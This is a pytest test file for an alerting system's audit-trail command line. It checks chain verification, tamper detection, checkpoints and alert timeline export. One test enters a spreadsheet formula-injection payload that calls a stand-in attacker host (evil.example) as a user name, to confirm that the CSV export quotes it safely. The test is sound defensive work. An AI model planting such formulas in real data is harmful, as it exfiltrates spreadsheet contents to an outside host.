"""`sirena audit verify|checkpoint|export`, run as a real process against a committed database."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import create_engine, pool, text
from sqlalchemy.engine import make_url

import alerting.interfaces.cli
from alerting.base import db as dbmod
from alerting.base.db import transaction
from alerting.base.settings import Settings
from audit.actor import Actor
from audit.seal import seal_committed
from audit.trail import append
from tests.factories import AlertFactory, OperatorFactory

ANA = Actor(kind="operator", name="ana", operator_id=1, interface="console")


@pytest.fixture
def trail(committed_db: Settings, tmp_path: Path) -> Settings:
    with transaction() as session:
        for i in range(5):
            append(session, actor=ANA, action="zone.edited", subject_type="zone", subject_id=i)
    seal_committed(dbmod.engine())  # as the scheduler does
    return replace(committed_db, audit_checkpoint_dir=tmp_path / "checkpoints")


def sirena(settings: Settings, *args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ,
               SIRENA_DATABASE_URL=settings.database_url,
               SIRENA_DATABASE_OWNER_URL=settings.database_owner_url,
               SIRENA_DATABASE_ADMIN_URL=settings.database_admin_url,
               SIRENA_REDIS_URL=settings.redis_url,
               SIRENA_SECRET_KEY_FILE=str(settings.secret_key_file),
               SIRENA_AUDIT_CHECKPOINT_DIR=str(settings.audit_checkpoint_dir))
    code = "import sys; from alerting.interfaces.cli import main; main(sys.argv[1:])"
    return subprocess.run([sys.executable, "-c", code, *args], env=env, capture_output=True, text=True,
                          timeout=120, cwd=Path(__file__).resolve().parents[2])


def last_json(output: str) -> dict:
    return json.loads(output.strip().splitlines()[-1])


def _superuser_sql(base_settings: Settings, own: Settings, statement: str) -> None:
    url = make_url(base_settings.database_admin_url).set(database=make_url(own.database_url).database)
    engine = create_engine(url, poolclass=pool.NullPool)
    with engine.begin() as conn:
        conn.execute(text("SET LOCAL session_replication_role = replica"))
        conn.execute(text(statement))
    engine.dispose()


def test_audit_commands_are_registered() -> None:
    assert "alerting.interfaces.cli.audit_cmd" in alerting.interfaces.cli._MODULES
    assert set(alerting.interfaces.cli._load().commands["audit"].commands) >= {"verify", "checkpoint", "export"}


def test_verify_exits_0_with_count_and_head(trail: Settings) -> None:
    result = sirena(trail, "audit", "verify", "--json")
    assert result.returncode == 0, result.stderr
    data = last_json(result.stdout)
    assert data["ok"] is True and data["count"] == 5 and data["head_seq"] == 5
    assert len(data["head_hash"]) == 64


def test_verify_exits_1_naming_the_first_bad_event(trail: Settings, base_settings: Settings) -> None:
    _superuser_sql(base_settings, trail, "UPDATE audit.events SET subject_id = '9' WHERE seq = 2")
    result = sirena(trail, "audit", "verify", "--json")
    assert result.returncode == 1
    assert last_json(result.stdout)["first_problem"]["seq"] == 2
    assert "first bad event 2: changed_content" in result.stderr


def test_checkpoint_then_tail_cut_fails_verify(trail: Settings, base_settings: Settings) -> None:
    result = sirena(trail, "audit", "checkpoint", "--json")
    assert result.returncode == 0, result.stderr
    assert last_json(result.stdout)["seq"] == 5
    _superuser_sql(base_settings, trail, "DELETE FROM audit.events WHERE seq = 5")
    result = sirena(trail, "audit", "verify")
    assert result.returncode == 1
    assert "first bad event 5: missing_after_checkpoint" in result.stderr


def test_export_an_alert_then_verify_the_file(trail: Settings, tmp_path: Path) -> None:
    with transaction() as session:
        for factory in (AlertFactory, OperatorFactory):
            factory._meta.sqlalchemy_session = session
        alert = AlertFactory()
        alert.reference = f"A-2026-{alert.id:06d}"  # as lifecycle.compose names it
        correction = AlertFactory(corrects_alert_id=alert.id)
        append(session, actor=ANA, action="alert.composed", subject_type="alert", subject_id=alert.id)
        append(session, actor=ANA, action="alert.composed", subject_type="alert", subject_id=correction.id)
    out = tmp_path / "timeline.json"
    result = sirena(trail, "audit", "export", "--alert", str(alert.id), "--format", "json", "-o", str(out), "--json")
    assert result.returncode == 0, result.stderr
    summary = last_json(result.stdout)
    # the alert's event, its correction's, and the audit of this export itself
    assert summary["count"] == 3
    actions = [e["action"] for e in json.loads(out.read_text())["events"]]
    assert actions == ["alert.composed", "alert.composed", "audit.exported"]
    result = sirena(trail, "audit", "verify", "--export", str(out), "--json")
    assert result.returncode == 0, result.stderr
    assert last_json(result.stdout)["ok"] is True

    out.write_text(out.read_text().replace("alert.composed", "alert.approved", 1))
    result = sirena(trail, "audit", "verify", "--export", str(out), "--offline")
    assert result.returncode == 1
    assert "changed_content" in result.stderr
    by_reference = sirena(trail, "audit", "export", "--alert", alert.reference.lower(), "--format", "csv")
    assert by_reference.returncode == 0, by_reference.stderr  # the reference shown everywhere, any case
    assert by_reference.stdout.count("alert.composed") == 2


def test_export_of_a_missing_alert_exits_3(trail: Settings) -> None:
    result = sirena(trail, "audit", "export", "--alert", "999999", "--format", "csv")
    assert result.returncode == 3
    assert "alert 999999 does not exist" in result.stderr


def test_an_export_of_something_that_is_no_alert_names_the_option(trail: Settings) -> None:
    missing = sirena(trail, "audit", "export", "--alert", "A-2026-999999", "--format", "csv")
    assert missing.returncode == 3 and "alert A-2026-999999 does not exist" in missing.stderr
    wrong = sirena(trail, "audit", "export", "--alert", "incendio", "--format", "csv")
    assert wrong.returncode == 2
    assert "--alert: expected an alert id (42) or reference (A-2026-000042), got 'incendio'" in wrong.stderr


def test_export_without_a_scope_names_the_option(trail: Settings) -> None:
    result = sirena(trail, "audit", "export", "--format", "csv")
    assert result.returncode == 2
    assert "--alert" in result.stderr


def test_export_csv_to_stdout_by_time_range(trail: Settings) -> None:
    result = sirena(trail, "audit", "export", "--since", "2000-01-01T00:00", "--format", "csv")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.strip().splitlines()
    assert lines[0].startswith("seq,at,actor_kind")
    assert len(lines) == 1 + 6  # five events and the export's own


def test_export_csv_quotes_a_formula_typed_as_a_user_name_and_the_file_still_verifies(trail: Settings,
                                                                                      tmp_path: Path) -> None:
    import csv

    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with transaction() as session:
        append(session, actor=Actor(kind="anonymous", name=formula, interface="console", user_agent="@SUM(1)"),
               action="operator.sign_in", outcome="refused", reason="+bad password")
    seal_committed(dbmod.engine())
    out = tmp_path / "all.csv"
    result = sirena(trail, "audit", "export", "--since", "2000-01-01T00:00", "--format", "csv", "-o", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(out.open(newline="")))
    row = next(r for r in rows if r["action"] == "operator.sign_in")
    assert (row["actor_name"], row["origin_user_agent"], row["reason"]) == ("'" + formula, "'@SUM(1)", "'+bad password")
    assert sirena(trail, "audit", "verify", "--export", str(out)).returncode == 0
